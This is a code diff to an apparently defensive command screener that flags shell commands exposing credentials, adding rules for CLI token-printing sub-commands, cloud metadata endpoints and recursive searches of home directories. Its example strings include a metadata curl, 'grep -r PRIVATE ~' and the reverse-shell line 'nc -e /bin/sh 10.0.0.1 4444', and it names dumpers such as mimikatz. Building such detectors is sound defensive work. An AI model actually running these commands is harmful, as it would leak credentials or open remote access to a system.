@@ -118,7 +118,8 @@ def secret_dangers(run: Run) -> Iterator[Danger]:
 def _paths(run: Run) -> Iterator[str]:
     for a in run.args:
         value = a.partition("=")[2] if a.startswith("--") and "=" in a else a
-        if "/" in value or value.startswith((".", "~")):
+        # A bare name counts, too: the shell may stand in the folder of keys, or the name may be a link to one.
+        if "/" in value or value.startswith((".", "~")) or (value and len(value) < 100 and not a.startswith("-")):
             yield re.sub(r"^(?:@|\w+=@|if=|file://)", "", value)
 
 
@@ -190,7 +191,60 @@ def _reveals(run: Run) -> bool:
     return run.name in ("mimikatz", "secretsdump.py", "lazagne")
 
 
+# Sub-commands that print a credential, by the words they begin with.
+_PRINTS_CREDENTIAL: dict[str, tuple[tuple[str, ...], ...]] = {
+    "gh": (("auth", "token"),),
+    "glab": (("auth", "token"),),
+    "gcloud": (
+        ("auth", "print-access-token"),
+        ("auth", "print-identity-token"),
+        ("auth", "application-default", "print-access-token"),
+        ("secrets", "versions", "access"),
+    ),
+    "az": (("account", "get-access-token"), ("keyvault", "secret", "show")),
+    "git": (("credential", "fill"),),
+    "git-credential": (("fill",),),
+    "pass": (("show",),),
+    "op": (("read",), ("item", "get")),
+    "vault": (("kv", "get"), ("read",), ("print", "token")),
+    "bw": (("get", "password"), ("get", "item"), ("export",)),
+    "heroku": (("auth:token",),),
+    "doppler": (("secrets", "download"), ("secrets", "get")),
+}
+_SECRET_SETTING = re.compile(r"secret|session_token|password", re.I)
+# Where a cloud hands credentials to whatever runs on its machines.
+_METADATA = re.compile(
+    r"169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|100\.100\.100\.200|fd00:ec2::254", re.I
+)
+
+
+def _prints_credential(run: Run) -> bool:
+    words = run.operands
+    if run.name == "aws":
+        return words[:2] == ("configure", "get") and any(_SECRET_SETTING.search(w) for w in words[2:])
+    if run.name in ("kubectl", "oc"):
+        is_secret = any(re.match(r"secrets?(?:/|\Z)", w) for w in words[1:3])
+        return words[:1] == ("get",) and is_secret and run.has("-o", "--output", "--template")
+    return not asks_help(run) and any(words[: len(start)] == start for start in _PRINTS_CREDENTIAL[run.name])
+
+
+def _asks_metadata(run: Run) -> bool:
+    return any(_METADATA.search(a[:300]) for a in run.args)
+
+
+def _searches_a_home(run: Run) -> bool:
+    """A search through every file of a home reads its keys as well."""
+    is_recursive = run.has("-r", "-R", "--recursive", "--dereference-recursive") or run.name == "rgrep"
+    reads_hidden = run.has("--hidden", "-u", "-uu", "-uuu", "--unrestricted", "-.")
+    if not (reads_hidden if run.name in ("rg", "ag") else is_recursive):
+        return False
+    return any(run.places.holds_home(o) for o in run.operands[1:])
+
+
 RULES = (
+    Rule("credentials", f"aws kubectl oc {' '.join(_PRINTS_CREDENTIAL)}", _prints_credential, "gh auth token"),
+    Rule("credentials", "curl wget http https httpie", _asks_metadata, "curl http://169.254.169.254/latest/meta-data/"),
+    Rule("credentials", "grep egrep fgrep rgrep rg ag", _searches_a_home, "grep -r PRIVATE ~"),
     Rule(
         "reverse-shell", "nc ncat netcat nc.traditional nc.openbsd telnet", _netcat_shell, "nc -e /bin/sh 10.0.0.1 4444"
     ),
